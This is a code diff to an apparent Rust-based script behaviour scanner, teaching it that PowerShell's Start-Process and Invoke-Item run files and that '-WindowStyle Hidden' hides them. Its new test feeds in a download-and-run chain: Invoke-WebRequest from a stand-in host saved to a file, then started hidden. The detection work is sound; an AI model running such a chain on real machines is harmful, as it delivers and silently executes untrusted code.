@@ -34,6 +34,9 @@ pub(crate) struct Command {
     pub(crate) substituted: bool,
     /// Arguments carry a command substitution or a variable (`$USER`).
     pub(crate) expands: Vec<String>,
+    /// Started by a launcher (`Start-Process x`, `Invoke-Item x`): the program is a
+    /// file run, whatever its name.
+    pub(crate) launched: bool,
 }
 
 /// What a script can do, as the rules weigh it.
@@ -499,9 +502,11 @@ fn command_from(
             position,
             substituted,
             expands: Vec::new(),
+            launched: false,
         });
     }
     // Unwrap what only starts another command.
+    let mut launched = false;
     loop {
         let Some((first, _)) = words.first() else {
             return;
@@ -523,6 +528,36 @@ fn command_from(
                 parsed.commands.push(hides("nohup", pipeline, position));
             }
             words.remove(0);
+            continue;
+        }
+        // PowerShell's launchers: what they start is a file run.
+        if matches!(
+            program.as_str(),
+            "start-process" | "saps" | "invoke-item" | "ii"
+        ) {
+            words.remove(0);
+            launched = true;
+            while let Some((flag, _)) = words.first()
+                && flag.starts_with('-')
+            {
+                let flag = words.remove(0).0.to_ascii_lowercase();
+                if flag == "-windowstyle" && !words.is_empty() {
+                    let (style, _) = words.remove(0);
+                    if style.eq_ignore_ascii_case("hidden") {
+                        parsed.commands.push(hides(
+                            "Start-Process -WindowStyle Hidden",
+                            pipeline,
+                            position,
+                        ));
+                    }
+                } else if !matches!(
+                    flag.as_str(),
+                    "-filepath" | "-path" | "-nonewwindow" | "-wait" | "-passthru"
+                ) && !words.is_empty()
+                {
+                    words.remove(0);
+                }
+            }
             continue;
         }
         if program == "start" {
@@ -592,6 +627,7 @@ fn command_from(
         position,
         substituted,
         expands,
+        launched,
     });
 }
 
@@ -956,7 +992,8 @@ pub(crate) fn behaviours(script: &Script) -> Vec<(Behaviour, String)> {
             || program.ends_with(".bat")
             || program.ends_with(".cmd")
             || program.ends_with(".ps1")
-            || first.to_ascii_lowercase().ends_with(".exe");
+            || first.to_ascii_lowercase().ends_with(".exe")
+            || command.launched;
         if runs_path && !command.substituted {
             found.push((
                 Behaviour::RunsFile {
@@ -1122,6 +1159,28 @@ mod tests {
             );
         }
         assert!(!kinds("make build >& build.log").contains(&"exfiltrates".to_owned()));
+    }
+
+    /// PowerShell's `Start-Process` runs the file it is given, whatever its name: a
+    /// download saved by `Invoke-WebRequest -OutFile` and started is run.
+    #[test]
+    fn a_download_started_by_start_process_is_run() {
+        let found = kinds(
+            "powershell -Command \"Invoke-WebRequest -Uri 'https://x.example/a' -OutFile '$p'\" && \
+             powershell -Command \"Start-Process -WindowStyle Hidden -FilePath '$p'\"",
+        );
+        assert!(
+            found.contains(&"downloads-and-runs".to_owned()),
+            "{found:?}"
+        );
+        assert!(found.contains(&"hides".to_owned()), "{found:?}");
+        // A page opened in the browser is not a download run.
+        let found = kinds("powershell -Command \"Start-Process -NoNewWindow 'docs.html'\"");
+        assert!(
+            !found.contains(&"downloads-and-runs".to_owned()),
+            "{found:?}"
+        );
+        assert!(found.contains(&"runs-file".to_owned()), "{found:?}");
     }
 
     /// From `node_modules/<name>`, `../..` is the project: deleting it is sabotage;
